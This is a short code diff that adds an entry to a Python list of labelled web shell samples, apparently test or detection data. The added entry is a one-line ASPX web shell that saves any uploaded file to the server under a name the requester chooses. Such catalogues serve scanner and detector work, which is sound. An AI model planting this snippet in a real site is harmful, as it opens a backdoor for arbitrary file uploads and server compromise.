@@ -49,6 +49,13 @@ SHELLS: list[tuple[str, str, str, set[str], str]] = [
         {"file-write-content"},
         "C#",
     ),
+    (
+        "cs-upload-into-request-folder",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<% Request.Files[0].SaveAs(Server.MapPath(".") + "\\\\" + Request["name"]); %>',
+        {"upload-to-request-path"},
+        "C#",
+    ),
     # --- command execution
     (
         "cs-processstartinfo-variable",
